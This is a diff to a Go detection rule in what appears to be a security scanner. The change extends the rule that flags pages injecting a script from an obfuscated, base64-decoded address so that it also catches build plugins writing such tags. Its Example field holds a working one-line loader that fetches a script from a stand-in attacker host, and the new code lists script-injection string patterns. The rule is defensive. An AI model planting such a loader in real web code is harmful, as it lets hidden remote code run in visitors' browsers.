@@ -244,12 +244,13 @@ type ScriptInjection struct{}
 // Meta implements analyze.Rule.
 func (ScriptInjection) Meta() analyze.Meta {
 	return analyze.Meta{
-		ID: "browser/script-injection", Version: 1, Title: "Injects a script from a hidden address",
+		ID: "browser/script-injection", Version: 2, Title: "Injects a script from a hidden address",
 		Help: "Code creates a <script> element (or writes a script tag) whose address it decodes at run time (atob, Buffer.from(…, " +
 			"\"base64\"), hex, character codes) and that points to a host that is neither local nor a known CDN. Loaders of analytics " +
 			"or payment SDKs name their CDN in plain text; hiding the address keeps a reviewer and a grep from seeing which code " +
 			"the page will run. This is how compromised packages pull their real payload into the sites that bundle them. Critical; " +
-			"high in a multi-megabyte bundle, where the decoded address must sit by the script element.",
+			"high in a multi-megabyte bundle, where the decoded address must sit by the script element. A build plugin writing such a " +
+			"<script src> tag into the pages it emits, or a loader kept as text for the scripts it emits, counts the same.",
 		Remediation:     "Remove the package from any site build and review what the decoded address served.",
 		Example:         `const s = document.createElement("script"); s.src = atob("aHR0cHM6Ly9ldmlsLmV4YW1wbGUvcy5qcw=="); document.head.appendChild(s)`,
 		DefaultSeverity: finding.SeverityCritical, Signal: analyze.SigRemoteExec, Needs: analyze.NeedCode,
@@ -267,6 +268,15 @@ func (ScriptInjection) Check(ctx context.Context, t *analyze.Target, r analyze.R
 			case (c.Callee == "document.write" || c.Callee == "document.writeln") && len(c.Args) > 0 &&
 				(strings.Contains(strings.ToLower(c.Args[0].Value), "<script") || strings.Contains(strings.ToLower(c.Args[0].Shape), "<script")):
 				inject = append(inject, c.Pos)
+			}
+		}
+		for _, s := range f.Facts.Strings {
+			// a script tag written into HTML (a build plugin editing
+			// the pages it emits), or a loader kept as text to add to
+			// the scripts it emits
+			v := strings.ToLower(s.Value)
+			if strings.Contains(v, "<script") && strings.Contains(v, "src=") || strings.Contains(v, `createelement("script")`) || strings.Contains(v, `createelement('script')`) {
+				inject = append(inject, s.Pos)
 			}
 		}
 		if len(inject) == 0 {
